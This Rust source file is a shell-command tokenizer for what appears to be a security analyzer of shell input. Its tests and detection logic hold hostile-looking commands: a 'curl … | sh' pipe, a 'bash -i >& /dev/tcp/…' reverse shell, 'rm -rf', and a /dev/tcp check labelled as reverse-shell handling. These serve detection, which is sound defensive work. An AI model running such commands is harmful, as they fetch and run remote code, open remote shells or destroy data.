//! A small tokenizer for the shell's simple-command subset, used two ways:
//!
//! - **fast path** ([`fast_program`]): input made only of simple commands, pipes, `;`, `&`,
//!   `&&`, `||` and newlines (no compound commands, subshells, here-documents, process
//!   substitution or `$'…'`) is turned into the same brush-parser AST the parser would build,
//!   at a fraction of the parser's cost (about 15 µs per 100 bytes for brush-parser's
//!   PEG parser, measured with `examples/bench_analyze.rs`). Anything outside the subset
//!   returns `None` and goes to the parser. `tests/fast_path.rs` checks that both give the
//!   same facts.
//! - **best effort** ([`run`]): input the parser rejects (unterminated quotes, unsupported
//!   constructs, truncated commands) is tokenized leniently: shell keywords and `for`/`case`
//!   headers are dropped, parentheses separate commands, unknown redirections are skipped, and
//!   the commands found are walked like parsed ones. The result is a lower bound; the parse
//!   error itself is reported in `unanalysable` by the caller.

use brush_parser::ast;

use crate::analyzer::Analyzer;
use crate::model::{State, Stream};

#[derive(Debug, Clone, PartialEq, Eq)]
enum Tok {
    Word(String),
    /// A redirection operator, with its descriptor prefix (`2>`, `>>`, `<`, `&>`, `2>&`).
    Redir(String),
    /// `|` or `|&`.
    Pipe,
    /// `;`.
    Seq,
    /// A newline.
    Newline,
    /// `&`.
    Async,
    /// `&&`.
    And,
    /// `||`.
    Or,
    /// `(` or `)` outside a word.
    Paren,
}

/// Most tokens looked at (bounds work on huge garbage input).
const MAX_TOKENS: usize = 20_000;

/// Reserved words (brush-parser's `reserved_word` rule, plus `time`, which starts a timed
/// pipeline).
const RESERVED: &[&str] = &[
    "!", "{", "}", "case", "do", "done", "elif", "else", "esac", "fi", "for", "if", "in", "then",
    "until", "while", "[[", "]]", "function", "select", "coproc", "time",
];

/// Reads a balanced `open … close` group starting after the opening character; quotes inside
/// are skipped. Returns the index after the closing character, or `None` when unterminated.
fn balanced(chars: &[char], mut i: usize, open: char, close: char) -> Option<usize> {
    let mut depth = 1;
    while let Some(&c) = chars.get(i) {
        match c {
            '\\' => i += 1,
            '\'' => {
                i += 1;
                while chars.get(i).is_some_and(|c| *c != '\'') {
                    i += 1;
                }
            }
            '"' => {
                i += 1;
                while let Some(&d) = chars.get(i) {
                    if d == '\\' {
                        i += 1;
                    } else if d == '"' {
                        break;
                    }
                    i += 1;
                }
            }
            c if c == open => depth += 1,
            c if c == close => {
                depth -= 1;
                if depth == 0 {
                    return Some(i + 1);
                }
            }
            _ => {}
        }
        i += 1;
    }
    None
}

/// Tokens, and whether the input used anything outside the simple subset (see the module
/// documentation).
fn tokenize(src: &str) -> (Vec<Tok>, bool) {
    let chars: Vec<char> = src.chars().collect();
    let mut toks = Vec::new();
    let mut cur = String::new();
    let mut started = false;
    let mut complex = false;
    let mut i = 0;
    let flush = |cur: &mut String, started: &mut bool, toks: &mut Vec<Tok>| {
        if *started || !cur.is_empty() {
            toks.push(Tok::Word(std::mem::take(cur)));
        }
        *started = false;
    };
    while let Some(&c) = chars.get(i) {
        if toks.len() > MAX_TOKENS {
            complex = true;
            break;
        }
        match c {
            ' ' | '\t' => {
                flush(&mut cur, &mut started, &mut toks);
                i += 1;
            }
            '\n' => {
                flush(&mut cur, &mut started, &mut toks);
                toks.push(Tok::Newline);
                i += 1;
            }
            ';' => {
                flush(&mut cur, &mut started, &mut toks);
                if matches!(chars.get(i + 1), Some(';') | Some('&')) {
                    complex = true;
                }
                toks.push(Tok::Seq);
                i += 1;
            }
            '(' | ')' => {
                flush(&mut cur, &mut started, &mut toks);
                toks.push(Tok::Paren);
                complex = true;
                i += 1;
            }
            '#' if cur.is_empty() && !started => {
                while chars.get(i).is_some_and(|c| *c != '\n') {
                    i += 1;
                }
            }
            '&' => {
                flush(&mut cur, &mut started, &mut toks);
                match (chars.get(i + 1), chars.get(i + 2)) {
                    (Some('>'), Some('>')) => {
                        toks.push(Tok::Redir("&>>".into()));
                        i += 3;
                    }
                    (Some('>'), _) => {
                        toks.push(Tok::Redir("&>".into()));
                        i += 2;
                    }
                    (Some('&'), _) => {
                        toks.push(Tok::And);
                        i += 2;
                    }
                    _ => {
                        toks.push(Tok::Async);
                        i += 1;
                    }
                }
            }
            '|' => {
                flush(&mut cur, &mut started, &mut toks);
                match chars.get(i + 1) {
                    Some('|') => {
                        toks.push(Tok::Or);
                        i += 2;
                    }
                    Some('&') => {
                        toks.push(Tok::Pipe);
                        i += 2;
                    }
                    _ => {
                        toks.push(Tok::Pipe);
                        i += 1;
                    }
                }
            }
            '<' | '>' => {
                if chars.get(i + 1) == Some(&'(') {
                    // Process substitution.
                    complex = true;
                    let end = balanced(&chars, i + 2, '(', ')').unwrap_or(chars.len());
                    cur.extend(chars.get(i..end).unwrap_or(&[]));
                    started = true;
                    i = end;
                    continue;
                }
                let fd = if !cur.is_empty() && !started && cur.chars().all(|c| c.is_ascii_digit()) {
                    std::mem::take(&mut cur)
                } else {
                    flush(&mut cur, &mut started, &mut toks);
                    String::new()
                };
                let mut op = format!("{fd}{c}");
                i += 1;
                while let Some(&n) = chars.get(i) {
                    if matches!(n, '>' | '<' | '&' | '|') && op.len() < fd.len() + 3 {
                        op.push(n);
                        i += 1;
                    } else {
                        break;
                    }
                }
                toks.push(Tok::Redir(op));
            }
            '\\' => {
                match chars.get(i + 1) {
                    Some('\n') => {}
                    Some(&n) => {
                        cur.push('\\');
                        cur.push(n);
                    }
                    None => cur.push('\\'),
                }
                i += 2;
            }
            '\'' => {
                let start = i;
                i += 1;
                while chars.get(i).is_some_and(|c| *c != '\'') {
                    i += 1;
                }
                if i >= chars.len() {
                    complex = true;
                }
                let end = (i + 1).min(chars.len());
                cur.extend(chars.get(start..end).unwrap_or(&[]));
                if i >= chars.len() {
                    cur.push('\'');
                }
                started = true;
                i = end;
            }
            '"' | '`' => {
                let start = i;
                i += 1;
                while let Some(&d) = chars.get(i) {
                    if d == '\\' {
                        i += 2;
                        continue;
                    }
                    if d == c {
                        break;
                    }
                    if c == '"' && d == '`' {
                        complex = true;
                    }
                    if c == '"' && d == '$' && chars.get(i + 1) == Some(&'(') {
                        match balanced(&chars, i + 2, '(', ')') {
                            Some(e) => {
                                if subst_is_complex(&chars, i + 2, e) {
                                    complex = true;
                                }
                                i = e;
                            }
                            None => {
                                complex = true;
                                i = chars.len();
                            }
                        }
                        continue;
                    }
                    i += 1;
                }
                if i >= chars.len() {
                    complex = true;
                }
                let end = (i + 1).min(chars.len());
                cur.extend(chars.get(start..end).unwrap_or(&[]));
                if i >= chars.len() {
                    cur.push(c);
                }
                started = true;
                i = end;
            }
            '$' if chars.get(i + 1) == Some(&'\'') => {
                complex = true;
                cur.push('$');
                i += 1;
            }
            '$' if chars.get(i + 1) == Some(&'(') => {
                let end = match balanced(&chars, i + 2, '(', ')') {
                    Some(e) => {
                        if subst_is_complex(&chars, i + 2, e) {
                            complex = true;
                        }
                        e
                    }
                    None => {
                        complex = true;
                        chars.len()
                    }
                };
                cur.extend(chars.get(i..end).unwrap_or(&[]));
                if end >= chars.len() && !cur.ends_with(')') {
                    cur.push(')');
                }
                i = end;
            }
            '$' if chars.get(i + 1) == Some(&'{') => {
                let end = balanced(&chars, i + 2, '{', '}').unwrap_or_else(|| {
                    complex = true;
                    chars.len()
                });
                cur.extend(chars.get(i..end).unwrap_or(&[]));
                i = end;
            }
            _ => {
                cur.push(c);
                i += 1;
            }
        }
    }
    flush(&mut cur, &mut started, &mut toks);
    (toks, complex)
}

/// A `$(…)` body the simple bracket matcher may have cut wrongly (`case` patterns have
/// unbalanced `)`), or holding a comment (which may hide a `)`).
fn subst_is_complex(chars: &[char], start: usize, end: usize) -> bool {
    let body: String = chars.get(start..end).unwrap_or(&[]).iter().collect();
    body.contains("case") || body.contains('#')
}

/// `NAME=…` or `NAME+=…` (a scalar assignment word): the name, whether it appends, and the
/// value as written.
fn assignment(w: &str) -> Option<(&str, bool, &str)> {
    let eq = w.bytes().position(|b| b == b'=')?;
    let head = w.get(..eq)?;
    let (name, append) = match head.strip_suffix('+') {
        Some(n) => (n, true),
        None => (head, false),
    };
    let mut cs = name.chars();
    let first = cs.next()?;
    if !(first.is_ascii_alphabetic() || first == '_')
        || !cs.all(|c| c.is_ascii_alphanumeric() || c == '_')
    {
        return None;
    }
    Some((name, append, w.get(eq + 1..).unwrap_or("")))
}

/// `NAME[…]=` (an array element assignment): not handled by the tokenizer.
fn array_assignment(w: &str) -> bool {
    // Byte scans: both characters are ASCII, and words are short.
    let b = w.as_bytes();
    match (
        b.iter().position(|&c| c == b'['),
        b.iter().position(|&c| c == b'='),
    ) {
        (Some(b), Some(e)) => {
            b < e
                && w.get(..b).is_some_and(|n| {
                    !n.is_empty() && n.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                })
        }
        _ => false,
    }
}

/// The AST redirection for an operator and its target, as brush-parser builds it.
fn redirect(op: &str, target: &str) -> Option<ast::IoRedirect> {
    use ast::IoFileRedirectKind as K;
    use ast::IoFileRedirectTarget as T;
    let digits = op.chars().take_while(|c| c.is_ascii_digit()).count();
    let fd: Option<ast::IoFd> = if digits > 0 {
        op.get(..digits)?.parse().ok()
    } else {
        None
    };
    let kind = op.get(digits..)?;
    let w = || ast::Word::from(target.to_string());
    Some(match kind {
        "<" => ast::IoRedirect::File(fd, K::Read, T::Filename(w())),
        "<&" => ast::IoRedirect::File(fd, K::DuplicateInput, T::Duplicate(w())),
        ">" => ast::IoRedirect::File(fd, K::Write, T::Filename(w())),
        ">&" => ast::IoRedirect::File(fd, K::DuplicateOutput, T::Duplicate(w())),
        ">>" => ast::IoRedirect::File(fd, K::Append, T::Filename(w())),
        "<>" => ast::IoRedirect::File(fd, K::ReadAndWrite, T::Filename(w())),
        ">|" => ast::IoRedirect::File(fd, K::Clobber, T::Filename(w())),
        "&>" if fd.is_none() => ast::IoRedirect::OutputAndError(w(), false),
        "&>>" if fd.is_none() => ast::IoRedirect::OutputAndError(w(), true),
        "<<<" => ast::IoRedirect::HereString(fd, w()),
        _ => return None,
    })
}

/// Builds a program from tokens. `strict`: `None` for anything outside the simple subset;
/// lenient: skip what cannot be represented.
fn build(toks: Vec<Tok>, strict: bool) -> Option<ast::Program> {
    use ast::CommandPrefixOrSuffixItem as I;
    let mut items: Vec<ast::CompoundListItem> = Vec::new();
    let mut and_or: Option<ast::AndOrList> = None;
    let mut pending_link: Option<bool> = None; // Some(true) = &&, Some(false) = ||
    let mut pipeline: Vec<ast::Command> = Vec::new();
    let mut prefix: Vec<I> = Vec::new();
    let mut word: Option<ast::Word> = None;
    let mut suffix: Vec<I> = Vec::new();
    let mut skip_header = false;
    let mut it = toks.into_iter().peekable();

    let finish_cmd = |prefix: &mut Vec<I>,
                      word: &mut Option<ast::Word>,
                      suffix: &mut Vec<I>,
                      pipeline: &mut Vec<ast::Command>|
     -> bool {
        if prefix.is_empty() && word.is_none() && suffix.is_empty() {
            return false;
        }
        let sc = ast::SimpleCommand {
            prefix: (!prefix.is_empty()).then(|| ast::CommandPrefix(std::mem::take(prefix))),
            word_or_name: word.take(),
            suffix: (!suffix.is_empty()).then(|| ast::CommandSuffix(std::mem::take(suffix))),
        };
        pipeline.push(ast::Command::Simple(sc));
        true
    };
    // Closes the current pipeline into the and-or list; false when it was empty.
    let finish_pipeline = |pipeline: &mut Vec<ast::Command>,
                           and_or: &mut Option<ast::AndOrList>,
                           link: &mut Option<bool>|
     -> bool {
        if pipeline.is_empty() {
            return false;
        }
        let p = ast::Pipeline {
            timed: None,
            bang: false,
            seq: std::mem::take(pipeline),
        };
        match (and_or.as_mut(), link.take()) {
            (Some(list), Some(true)) => list.additional.push(ast::AndOr::And(p)),
            (Some(list), Some(false)) => list.additional.push(ast::AndOr::Or(p)),
            (Some(list), None) => list.additional.push(ast::AndOr::And(p)),
            (None, _) => {
                *and_or = Some(ast::AndOrList {
                    first: p,
                    additional: Vec::new(),
                })
            }
        }
        true
    };

    while let Some(t) = it.next() {
        match t {
            Tok::Word(w) => {
                if skip_header {
                    continue;
                }
                if word.is_none() {
                    if let Some((name, append, value)) = assignment(&w) {
                        let a = ast::Assignment {
                            name: ast::AssignmentName::VariableName(name.to_string()),
                            value: ast::AssignmentValue::Scalar(ast::Word::from(value.to_string())),
                            append,
                            loc: Default::default(),
                        };
                        prefix.push(I::AssignmentWord(a, ast::Word::from(w.clone())));
                        continue;
                    }
                    if array_assignment(&w) {
                        if strict {
                            return None;
                        }
                        continue;
                    }
                    if RESERVED.contains(&w.as_str()) {
                        if strict {
                            return None;
                        }
                        // Lenient: drop keywords; skip `for x in …` / `case … in` headers.
                        if w == "for" || w == "case" || w == "select" {
                            skip_header = true;
                        }
                        continue;
                    }
                    word = Some(ast::Word::from(w));
                    continue;
                }
                match assignment(&w) {
                    Some((name, append, value)) => {
                        let a = ast::Assignment {
                            name: ast::AssignmentName::VariableName(name.to_string()),
                            value: ast::AssignmentValue::Scalar(ast::Word::from(value.to_string())),
                            append,
                            loc: Default::default(),
                        };
                        suffix.push(I::AssignmentWord(a, ast::Word::from(w.clone())));
                    }
                    None if array_assignment(&w) && strict => return None,
                    None => suffix.push(I::Word(ast::Word::from(w))),
                }
            }
            Tok::Redir(op) => {
                if skip_header {
                    continue;
                }
                let target = match it.peek() {
                    Some(Tok::Word(_)) => match it.next() {
                        Some(Tok::Word(w)) => w,
                        _ => String::new(),
                    },
                    _ => {
                        if strict {
                            return None;
                        }
                        continue;
                    }
                };
                if target.contains("/dev/tcp/") || target.contains("/dev/udp/") {
                    // Handled (reverse shells) by the parser path only.
                    if strict {
                        return None;
                    }
                }
                match redirect(&op, &target) {
                    Some(r) => {
                        if word.is_none() {
                            prefix.push(I::IoRedirect(r));
                        } else {
                            suffix.push(I::IoRedirect(r));
                        }
                    }
                    None if strict => return None,
                    None => {}
                }
            }
            Tok::Pipe => {
                if !finish_cmd(&mut prefix, &mut word, &mut suffix, &mut pipeline) && strict {
                    return None;
                }
            }
            Tok::And | Tok::Or => {
                let cmd = finish_cmd(&mut prefix, &mut word, &mut suffix, &mut pipeline);
                let pipe = finish_pipeline(&mut pipeline, &mut and_or, &mut pending_link);
                if strict && (!cmd || !pipe) {
                    return None;
                }
                pending_link = Some(t == Tok::And);
            }
            Tok::Seq | Tok::Newline | Tok::Async | Tok::Paren => {
                if t == Tok::Paren && strict {
                    return None;
                }
                skip_header = false;
                let cmd = finish_cmd(&mut prefix, &mut word, &mut suffix, &mut pipeline);
                let had_pipe = !pipeline.is_empty();
                if !cmd && had_pipe && strict {
                    return None;
                }
                finish_pipeline(&mut pipeline, &mut and_or, &mut pending_link);
                if pending_link.is_some() && strict {
                    return None;
                }
                match and_or.take() {
                    Some(list) => {
                        let sep = if t == Tok::Async {
                            ast::SeparatorOperator::Async
                        } else {
                            ast::SeparatorOperator::Sequence
                        };
                        items.push(ast::CompoundListItem(list, sep));
                    }
                    None => {
                        // `; ;`, `& ;`, a leading `;`: a syntax error for the shell. A blank
                        // line is fine.
                        if strict && t != Tok::Newline {
                            return None;
                        }
                    }
                }
                pending_link = None;
            }
        }
    }
    let cmd = finish_cmd(&mut prefix, &mut word, &mut suffix, &mut pipeline);
    let had_pipe = !pipeline.is_empty();
    if strict && (!cmd && had_pipe) {
        return None;
    }
    finish_pipeline(&mut pipeline, &mut and_or, &mut pending_link);
    if strict && pending_link.is_some() {
        return None;
    }
    if let Some(list) = and_or.take() {
        items.push(ast::CompoundListItem(
            list,
            ast::SeparatorOperator::Sequence,
        ));
    }
    Some(ast::Program {
        complete_commands: vec![ast::CompoundList(items)],
    })
}

/// The AST of `src` when it is made only of simple commands (see the module documentation),
/// else `None`.
pub(crate) fn fast_program(src: &str) -> Option<ast::Program> {
    let (toks, complex) = tokenize(src);
    if complex {
        return None;
    }
    build(toks, true)
}

/// Walks `src` with the lenient tokenizer (see the module documentation).
pub(crate) fn run(a: &mut Analyzer, src: &str, st: &mut State, stdin: Stream) -> Stream {
    let (toks, _) = tokenize(src);
    match build(toks, false) {
        Some(prog) => a.walk_program(&prog, st, stdin),
        None => Stream::default(),
    }
}

/// Most substitution bodies of one unparseable source analysed on their own.
const MAX_BODIES: usize = 16;

/// True when a parse error is one of the parser's limits (nesting too deep, too many unclosed
/// brackets: see `analyzer::parse_program`) rather than a syntax error: the text was never
/// parsed at all, so it counts as a limit of the analysis.
pub(crate) fn is_limit_error(e: &str) -> bool {
    e.starts_with("nesting deeper than") || e.starts_with("more than ")
}

/// Whether `src` has a command or process substitution (`$(`, `` ` ``, `<(`, `>(`) outside
/// single quotes.
pub(crate) fn has_substitution(src: &str) -> bool {
    let b = src.as_bytes();
    let mut i = 0;
    while let Some(&c) = b.get(i) {
        match c {
            b'\\' => i += 1,
            b'\'' => {
                i += 1;
                while b.get(i).is_some_and(|c| *c != b'\'') {
                    i += 1;
                }
            }
            b'`' => return true,
            b'$' | b'<' | b'>' if b.get(i + 1) == Some(&b'(') => return true,
            _ => {}
        }
        i += 1;
    }
    false
}

/// The bodies of the process substitutions (`<(…)`, `>(…)`) of text the parser rejected,
/// outermost first, at most [`MAX_BODIES`]. bash runs them wherever they stand (an argument,
/// the value of `x=<(…)`, the program word, or inside another one: `cat <(<(CMD))` runs CMD),
/// so each body is shell code to analyse on its own; one that does not parse either is
/// searched in turn by the caller. Single-quoted text is skipped; an unterminated body runs to
/// the end of the text.
pub(crate) fn substitution_bodies(src: &str) -> Vec<String> {
    let chars: Vec<char> = src.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(&c) = chars.get(i) {
        if out.len() >= MAX_BODIES {
            break;
        }
        match c {
            '\\' => i += 2,
            '\'' => {
                i += 1;
                while chars.get(i).is_some_and(|c| *c != '\'') {
                    i += 1;
                }
                i += 1;
            }
            '<' | '>' if chars.get(i + 1) == Some(&'(') => {
                let end = balanced(&chars, i + 2, '(', ')');
                let stop = end.map_or(chars.len(), |e| e.saturating_sub(1));
                let body: String = chars.get(i + 2..stop).unwrap_or(&[]).iter().collect();
                if !body.trim().is_empty() {
                    out.push(body);
                }
                i = end.unwrap_or(chars.len());
            }
            _ => i += 1,
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shape(src: &str) -> Option<String> {
        fast_program(src).map(|p| p.to_string())
    }

    #[test]
    fn simple_subset_is_recognised() {
        assert!(shape("curl -s x | sh; echo hi && ls || true &").is_some());
        assert!(shape("X=1 Y=2 cmd a=b 2>&1 >out <in").is_some());
        assert!(
            shape("echo \"$(date) `x`\"").is_none(),
            "backquote in double quotes"
        );
        assert!(shape("if true; then ls; fi").is_none());
        assert!(shape("(cd x && ls)").is_none());
        assert!(shape("cat <<EOF\nx\nEOF").is_none());
        assert!(shape("diff <(a) <(b)").is_none());
        assert!(shape("echo \"unterminated").is_none());
        assert!(shape("ls &&").is_none());
        assert!(shape("| ls").is_none());
        assert!(shape("a=(1 2)").is_none());
        assert!(shape("echo $'\\x41'").is_none());
        assert!(shape("bash -i >& /dev/tcp/h/1").is_none());
    }

    #[test]
    fn redirects_match_the_parser() {
        for src in [
            "cmd 2>&1 >out",
            "cmd &>>log",
            "cmd <<< word",
            "cmd 3<>f >|g <&0",
            "X=1 >f cmd",
        ] {
            let fast = fast_program(src).map(|p| p.to_string());
            let parsed = crate::analyzer::parse_program(src)
                .ok()
                .map(|p| p.to_string());
            assert_eq!(fast, parsed, "{src}");
        }
    }

    #[test]
    fn lenient_mode_keeps_commands() {
        let (toks, complex) = tokenize("if true; then rm -rf x; fi; echo \"oops");
        assert!(complex);
        let p = build(toks, false)
            .map(|p| p.to_string())
            .unwrap_or_default();
        assert!(p.contains("rm -rf x"), "{p}");
    }

    #[test]
    fn substitution_bodies_outermost_first() {
        assert_eq!(
            substitution_bodies("cat <(<(rm -rf x)) >(tee y) 'a <(no)'"),
            vec!["<(rm -rf x)".to_string(), "tee y".to_string()]
        );
        assert_eq!(substitution_bodies("x=<(rm x"), vec!["rm x".to_string()]);
        assert!(substitution_bodies("echo a < b > c").is_empty());
    }

    #[test]
    fn substitutions_outside_single_quotes() {
        for t in [
            "cat <(<(x))",
            "x=>(y",
            "echo $(a",
            "echo `a",
            "echo \"$(a\"",
        ] {
            assert!(has_substitution(t), "{t}");
        }
        for t in [
            "diff <file-1> <file-2>",
            "echo '$(a'",
            "print -l *.txt(:t)",
            "a \\$(b",
        ] {
            assert!(!has_substitution(t), "{t}");
        }
    }
}
